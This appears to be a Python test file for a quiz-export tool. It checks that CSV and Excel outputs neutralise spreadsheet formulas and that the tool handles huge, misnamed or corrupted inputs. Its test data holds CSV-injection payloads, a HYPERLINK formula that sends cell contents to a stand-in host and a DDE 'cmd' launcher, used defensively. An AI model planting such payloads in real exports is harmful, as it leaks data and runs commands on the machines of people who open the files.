"""Hostile input, round three (issue 20): no formulas, no crash, no file of the teacher's lost."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

import quizgen.draft.files as draft_files
from quizgen.cli import app
from quizgen.errors import QuizgenError
from quizgen.quiz.questions import EntityRef, MultipleChoice, Option, Quiz, SpeakerOf
from quizgen.quiz.select import build_quiz
from quizgen.renderers import get_renderer
from quizgen.renderers.base import RenderOptions

OPTIONS = RenderOptions(name="quiz", seed=0, timestamp=1_700_000_000)
# What a spreadsheet takes for a formula (OWASP "CSV Injection"); TAB and CR are cleaned to a
# space by the renderers, which must not leave the = first either.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&B3,"click")', "+1+1", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=2+2", " =3+3")


def _formula_quiz() -> Quiz:
    """A fact base whose names start with formula characters, and a question whose prompt and
    options do too."""
    from factbases import make_base, person, quote

    people = [person(f"p{n}", text) for n, text in enumerate(FORMULAS)]
    quotes = [quote(f"q{n}", f"=cmd|' /C calc'!A{n} words worth quoting", f"p{n}")
              for n in range(len(FORMULAS))]
    base = make_base(*people, *quotes, base_id="formulas", title="=1+1 title")
    quiz = build_quiz((base,), seed=1, kinds=["who-said-it"])
    odd = MultipleChoice(
        id="who-said-it-9999", kind="who-said-it", factbase="formulas", prompt="=1+1",
        ask=SpeakerOf("q0"), options=tuple(Option(text, EntityRef(f"p{n}"))
                                           for n, text in enumerate(FORMULAS[:4])),
        answer=0, explanation=())
    assert quiz.questions  # who-said-it questions with the names as options
    return Quiz(title=quiz.title, bases=quiz.bases, questions=(*quiz.questions, odd))


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert cell.lstrip(" \t\r\n")[:1] not in ("=", "+", "-", "@"), repr(cell)


def test_blooket_cells_never_start_a_formula() -> None:
    """Every Blooket CSV cell that would start with = + - @ starts with a quote instead."""
    (data,) = get_renderer("blooket")(_formula_quiz(), options=OPTIONS).values()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    cells = [cell for row in rows[2:] for cell in row]
    _assert_no_formula(cells)
    assert "'=1+1" in cells  # the prompt, as written after the quote
    assert """'=HYPERLINK("http://evil.example/?"&B3,"click")""" in cells
    assert "'@SUM(1,2)" in cells and "'-2+3" in cells


def test_quizlet_cells_never_start_a_formula() -> None:
    """Every Quizlet term and definition that would start a formula starts with a quote."""
    (data,) = get_renderer("quizlet")(_formula_quiz(), options=OPTIONS).values()
    cells = [cell for line in data.decode("utf-8").splitlines() for cell in line.split("\t")]
    _assert_no_formula(cells)
    assert any(cell.startswith("'=1+1") for cell in cells)


def test_kahoot_cells_stay_text() -> None:
    """The Kahoot sheet holds formula-like texts as shared strings, never as formulas."""
    import openpyxl

    (data,) = get_renderer("kahoot")(_formula_quiz(), options=OPTIONS).values()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    texts = [cell for cell in values if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    assert "=1+1" in [cell.value for cell in texts]


def test_formula_neutralising_keeps_plain_text() -> None:
    """Texts that start otherwise are left exactly as they are."""
    from quizgen.renderers.platform import sheet_cell

    for text in ("Who said it?", "51.2%", "“=quoted”", "a = b", "e-mail", ""):
        assert sheet_cell(text) == text
    for text in FORMULAS:
        assert sheet_cell(text) == "'" + text


# ---- 7. draft and init --from check the size before reading ------------------------------------

@pytest.mark.parametrize("command", ["draft", "init"])
def test_a_huge_article_is_refused_before_it_is_read(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str) -> None:
    """A 2 GB sparse article is refused on its size, and at most the limit + 1 bytes are read."""
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as handle:
        handle.truncate(2 * 1024**3)
    reads: list[int] = []
    real_read_bytes = Path.read_bytes

    def spying_read_bytes(path: Path) -> bytes:
        if path == huge:
            reads.append(-1)  # a whole-file read
        return real_read_bytes(path)

    monkeypatch.setattr(Path, "read_bytes", spying_read_bytes)
    monkeypatch.chdir(tmp_path)
    args = ["draft", str(huge)] if command == "draft" else ["init", "big", "--from", str(huge)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 1, result.output
    assert "too large" in result.output and "2,147,483,648 bytes" in result.output
    assert reads == []


def test_an_article_whose_size_lies_is_read_one_byte_past_the_limit(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file whose size says 0 (as /proc files do) is read only to the limit + 1 byte."""
    big = tmp_path / "big.txt"
    big.write_bytes(b"word " * (draft_files.MAX_ARTICLE_BYTES // 5 + 10))

    class Zero:
        st_size = 0

    monkeypatch.setattr(draft_files.os, "fstat", lambda fd: Zero())
    with pytest.raises(QuizgenError) as caught:
        draft_files.read_article(big)
    (problem,) = caught.value.problems
    assert problem.found == f"more than {draft_files.MAX_ARTICLE_BYTES:,} bytes"


# ---- 8. a long --name ----------------------------------------------------------------------------

@pytest.mark.parametrize("length", [251, 300, 5000])
def test_a_long_name_gives_the_usual_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                           length: int) -> None:
    """`draft --name` of 251+ characters is a located error, exit 1, not an OSError."""
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("Headline\nThe mayor said it rained.\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["draft", "a.txt", "--name", "a" * length])
    assert result.exit_code == 1, result.output
    assert "internal error" not in result.output and "OSError" not in result.output
    assert "--name" in result.output and "too long" in result.output
    result = CliRunner().invoke(app, ["init", "b" * length])
    assert result.exit_code == 1 and "too long" in result.output, result.output
    assert not Path("content").exists() or not any(Path("content").rglob("*.yaml"))


def test_a_long_article_file_name_makes_a_shorter_name(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """An article whose file name is 240 characters drafts under a name cut to the limit."""
    monkeypatch.chdir(tmp_path)
    article = Path("x" * 240 + ".txt")
    article.write_text("Headline\nThe mayor said it rained.\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["draft", str(article)])
    assert result.exit_code == 0, result.output
    assert Path("content", "x" * draft_files.MAX_NAME + ".yaml").is_file()


# ---- 9. a corrupted manifest --------------------------------------------------------------------

def test_a_deeply_nested_manifest_is_a_clean_error(project: Path) -> None:
    """A previous Anki manifest of 100,000 nested arrays: exit 1, the file named with its folder."""
    out = project / "decks"
    out.mkdir()
    manifest = out / "venezuela-post-election.manifest.json"
    manifest.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    result = CliRunner().invoke(app, ["build", "--to", "anki", "--out", str(out)])
    assert result.exit_code == 1, result.output
    assert "internal error" not in result.output and "RecursionError" not in result.output
    assert str(manifest) in result.output
    assert "nested too deeply" in result.output


# ---- 10. SIGTERM while the worksheet is laid out ------------------------------------------------

def test_sigterm_during_pdf_layout_exits_143_quietly(project: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """The signal arriving inside reportlab's layout (which re-raises a copy of any exception
    with its own message) still exits 143 and prints nothing of reportlab's."""
    import importlib
    import signal

    from quizgen.renderers.worksheet import para

    cli_app = importlib.import_module("quizgen.cli.app")  # quizgen.cli.app is also the app

    real_wrap = para.Paragraph.wrap
    calls = {"n": 0}

    def wrap(self: para.Paragraph, width: float, height: float) -> tuple[float, float]:
        calls["n"] += 1
        if calls["n"] == 40:  # some way into the layout, inside a KeepTogether
            cli_app._stop(signal.SIGTERM, None)
        return real_wrap(self, width, height)

    monkeypatch.setattr(para.Paragraph, "wrap", wrap)
    result = CliRunner().invoke(app, ["build", "--to", "worksheet", "--out", "out"])
    assert calls["n"] >= 40
    assert result.exit_code == 143, (result.exit_code, result.output)
    assert "KeepTogether" not in result.output and "raised by" not in result.output
    assert result.output.strip() == ""
    assert not any(name.endswith(".tmp") for name in os.listdir(project / "out")) \
        if (project / "out").exists() else True
